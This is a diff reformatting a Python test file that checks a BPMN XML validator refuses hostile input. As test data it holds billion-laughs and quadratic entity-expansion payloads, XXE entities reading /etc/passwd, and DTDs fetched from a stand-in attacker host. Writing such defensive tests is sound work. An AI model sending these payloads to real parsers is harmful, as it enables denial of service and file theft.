@@ -1,4 +1,5 @@
 """Hostile XML is refused before any entity is expanded or any external resource is read."""
+
 from __future__ import annotations
 
 import os
@@ -14,13 +15,15 @@ BODY = f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}"><bpmn:process id="P">{{}}</bp
 
 LOLS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
 BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{LOLS}]>' + BODY.format("&lol9;")
-QUADRATIC = (f'<!DOCTYPE d [<!ENTITY big "{"x" * 100_000}">]>' + BODY.format("&big;" * 20_000))
+QUADRATIC = f'<!DOCTYPE d [<!ENTITY big "{"x" * 100_000}">]>' + BODY.format("&big;" * 20_000)
 XXE = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + BODY.format("&xxe;")
 EXTERNAL_DTD = '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">' + BODY.format("")
 PUBLIC_DTD = '<!DOCTYPE d PUBLIC "-//X//DTD X//EN" "http://attacker.example/x.dtd">' + BODY.format("")
-PARAMETER_ENTITY = ('<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'
-                    '<!ENTITY % file SYSTEM "file:///etc/passwd">]>' + BODY.format(""))
-INTERNAL_SUBSET_ONLY = '<!DOCTYPE bpmn:definitions []>' + BODY.format("")
+PARAMETER_ENTITY = (
+    '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'
+    '<!ENTITY % file SYSTEM "file:///etc/passwd">]>' + BODY.format("")
+)
+INTERNAL_SUBSET_ONLY = "<!DOCTYPE bpmn:definitions []>" + BODY.format("")
 AFTER_COMMENT_AND_PI = '<?xml version="1.0"?><!-- hi --><?pi x?><!DOCTYPE d [<!ENTITY a "b">]>' + BODY.format("&a;")
 
 HOSTILE = {
@@ -87,8 +90,9 @@ FIFO_DOCUMENTS = {
 @pytest.mark.timeout(10)
 @pytest.mark.parametrize("scan", [True, False], ids=["with_prolog_scan", "lxml_only"])
 @pytest.mark.parametrize("template", FIFO_DOCUMENTS.values(), ids=FIFO_DOCUMENTS.keys())
-def test_external_resources_are_never_opened(template: str, scan: bool, fifo: Path,
-                                             monkeypatch: pytest.MonkeyPatch) -> None:
+def test_external_resources_are_never_opened(
+    template: str, scan: bool, fifo: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     if not scan:
         monkeypatch.setattr(validation, "_refuse_doctype", lambda raw, *, is_text: None)
     with pytest.raises(BpmnValidationError) as caught:
@@ -108,11 +112,14 @@ def test_predefined_entities_and_character_references_are_plain_text() -> None:
     assert summary.element_counts == {"startEvent": 1, "task": 1}
 
 
-@pytest.mark.parametrize(("document", "line", "column"), [
-    (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n  <bpmn:process id="P">\n</bpmn:definitions>', 3, 20),
-    (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n<a b="1" b="2"/></bpmn:definitions>', 2, 15),
-    ("not xml at all", 1, 1),
-])
+@pytest.mark.parametrize(
+    ("document", "line", "column"),
+    [
+        (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n  <bpmn:process id="P">\n</bpmn:definitions>', 3, 20),
+        (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n<a b="1" b="2"/></bpmn:definitions>', 2, 15),
+        ("not xml at all", 1, 1),
+    ],
+)
 def test_malformed_xml_reports_line_and_column(document: str, line: int, column: int) -> None:
     with pytest.raises(BpmnValidationError) as caught:
         validate_bpmn(document)
@@ -126,8 +133,10 @@ def test_malformed_xml_reports_line_and_column(document: str, line: int, column:
 @pytest.mark.parametrize("uri", ["not a uri", "http://x y", "ibm bpm/ext"])
 def test_a_namespace_name_that_is_not_a_uri_is_still_well_formed(uri: str) -> None:
     # IBM Process Designer writes such names; libxml2 reports them as errors, the XML is well-formed.
-    document = (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}" xmlns:ext="{uri}"><bpmn:process id="P">'
-                '<bpmn:startEvent id="S" ext:x="1"/></bpmn:process></bpmn:definitions>')
+    document = (
+        f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}" xmlns:ext="{uri}"><bpmn:process id="P">'
+        '<bpmn:startEvent id="S" ext:x="1"/></bpmn:process></bpmn:definitions>'
+    )
     assert validate_bpmn(document).element_counts == {"startEvent": 1}
 
 
